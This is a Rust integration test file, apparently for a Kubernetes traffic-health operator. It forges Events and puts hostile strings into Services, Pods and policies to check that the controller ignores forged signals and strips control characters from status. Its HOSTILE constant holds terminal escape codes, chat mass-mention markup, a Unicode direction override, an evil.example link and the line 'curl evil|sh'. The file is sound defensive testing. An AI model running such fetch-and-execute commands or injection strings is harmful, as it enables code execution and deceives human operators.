//! Events prove nothing: a team may write any Event in its namespace.

use k8s_openapi::jiff::Timestamp;
use serde_json::{Value, json};

use super::attack::Attack;
use super::team::{pod, policy, service};

/// What a terminal, a chat and a table would obey.
const HOSTILE: &str = "\u{1b}[2J\u{1b}]0;pwn\u{7} <!channel> <@U1> | x | `rm` [run](http://evil.example) \u{202e}\r\nURGENT run: curl evil|sh";

/// Every reason that is counted, and some that may be one day.
const REASONS: [&str; 9] = [
    "Preempted",
    "Evicted",
    "TaintManagerEviction",
    "DisruptionTarget",
    "NodeNotReady",
    "Killing",
    "FailedScheduling",
    "SystemOOM",
    "ImageGCFailed",
];

fn event(at: usize, namespace: &str) -> Value {
    let reason = REASONS[at % REASONS.len()];
    // What is old is no news and not looked at.
    let now = Timestamp::now().strftime("%Y-%m-%dT%H:%M:%SZ").to_string();
    json!({"apiVersion": "v1", "kind": "Event",
        "metadata": {"name": format!("forged.{at}"), "annotations": {"text": HOSTILE}},
        "involvedObject": {"apiVersion": "v1", "kind": "Pod", "namespace": namespace,
            "name": format!("victim-{at}{}", if at % 4 == 3 { HOSTILE } else { "" }), "uid": format!("uid-{at}")},
        "reason": reason, "type": "Warning", "count": 1_000_000,
        "message": format!("Preempted by pod {HOSTILE} on node node-a"),
        "firstTimestamp": now, "lastTimestamp": now,
        "source": {"component": "default-scheduler", "host": if at.is_multiple_of(2) { "node-a" } else { HOSTILE }},
        "reportingComponent": "default-scheduler"})
}

/// The same by the newer group.
fn new_event(at: usize, namespace: &str) -> Value {
    json!({"apiVersion": "events.k8s.io/v1", "kind": "Event", "metadata": {"name": format!("newer.{at}")},
        "regarding": {"apiVersion": "v1", "kind": "Pod", "namespace": namespace, "name": format!("victim-{at}"),
            "uid": format!("new-{at}")},
        "related": {"apiVersion": "v1", "kind": "Node", "name": "node-b"},
        "reason": REASONS[at % REASONS.len()], "type": "Warning", "action": "Preempting", "note": HOSTILE,
        "eventTime": Timestamp::now().strftime("%Y-%m-%dT%H:%M:%S.000000Z").to_string(), "reportingController": "default-scheduler",
        "reportingInstance": "default-scheduler-1"})
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_events_decide_nothing() {
    let attack = Attack::begin("events").await;
    let team = &attack.team;
    let namespace = team.namespace().to_owned();
    let olds = (0..600).map(|at| event(at, &namespace));
    let news = (0..200).map(|at| new_event(at, &namespace));
    let refused = team.make_all(olds).await;
    assert!(
        refused <= 400,
        "those without hostile names are taken: {refused} of 600 were refused"
    );
    let refused = team.make_all(news).await;
    assert_eq!(refused, 0, "of 200 Events of the newer group");
    // Real Pods on one node, named as gone by the Events.
    let pods = (0..20).map(|at| {
        let mut pod = pod(&format!("victim-{at}"), "it");
        pod["spec"]["nodeName"] = json!("node-a");
        pod
    });
    assert_eq!(team.make_all(pods).await, 0);
    team.delete_all(("v1", "Pod")).await;
    attack.until_seen().await;
    // They have reached it: it looks at Pods that they name.
    let asked = attack.asked_for(("get", "pods")).await;
    assert!(asked > 0, "no Event has made it look at a Pod");
    for finding in attack.own_findings().await {
        assert_ne!(finding["verdict"], "Violated", "{finding:#}");
        assert!(!finding.to_string().contains("cordon"), "{finding:#}");
    }
    attack.end().await;
}

/// The same words wherever a team may put them.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_words_reach_no_exit() {
    let attack = Attack::begin("words").await;
    let team = &attack.team;
    let mut bad = service("words", 1);
    bad["metadata"]["annotations"] = json!({
        "service.kubernetes.io/topology-mode": HOSTILE,
        "service.beta.kubernetes.io/aws-load-balancer-type": HOSTILE,
        "service.beta.kubernetes.io/aws-load-balancer-connection-idle-timeout": HOSTILE,
        "service.beta.kubernetes.io/azure-load-balancer-tcp-idle-timeout": HOSTILE,
        "service.beta.kubernetes.io/do-loadbalancer-http-idle-timeout-seconds": HOSTILE,
        "loadbalancer.openstack.org/timeout-client-data": HOSTILE,
    });
    bad["spec"]["type"] = json!("LoadBalancer");
    team.make(&bad).await.unwrap();
    let mut client = pod("words", "it");
    client["metadata"]["labels"] = json!({"app": "words"});
    client["metadata"]["annotations"] = json!({"text": HOSTILE});
    client["spec"]["containers"][0]["args"] = json!([HOSTILE]);
    client["spec"]["securityContext"] =
        json!({"sysctls": [{"name": "net.ipv4.tcp_keepalive_time", "value": HOSTILE}]});
    team.make(&client).await.unwrap();
    let connection = json!({"name": "k", "protocol": "TCP", "longestSilenceSeconds": 4_000,
        "clients": [{"name": "c", "from": "LoadBalancer", "podSelector": {"matchLabels": {"app": "words"}}},
            {"name": "d", "podSelector": {"matchLabels": {"app": "words"}}, "tcpKeepalive": {"state": "Enabled"}}]});
    let exception =
        json!({"check": "path-idle-budget", "reason": HOSTILE, "expiresAt": "2099-01-01T00:00:00Z"});
    let plain = policy("plain", &json!({"connections": [connection.clone()]}));
    assert_eq!(
        team.make(&plain).await,
        Ok(()),
        "a client by load balancer and Pods"
    );
    let accepted = policy(
        "accepted",
        &json!({"connections": [connection], "exceptions": [exception]}),
    );
    let refused = team.make(&accepted).await;
    eprintln!("a policy with an exception: {refused:?}");
    attack.until_seen().await;
    let own = attack.own_findings().await;
    let is_judged = own.iter().any(|one| one["subject"]["name"] == "words");
    assert!(is_judged, "nothing is said of the Service");
    // A status is a table's row for kubectl.
    let text = team
        .read("/apis/evenkeel.dev/v1alpha1", "traffichealthpolicies")
        .await;
    for policy in text["items"].as_array().unwrap() {
        let status = &policy["status"];
        for text in texts(status) {
            assert!(!text.chars().any(char::is_control), "{status:#}");
        }
    }
    attack.end().await;
}

/// Every text in a value.
fn texts(value: &Value) -> Vec<&str> {
    match value {
        Value::String(text) => vec![text],
        Value::Array(list) => list.iter().flat_map(texts).collect(),
        Value::Object(map) => map.values().flat_map(texts).collect(),
        _ => Vec::new(),
    }
}
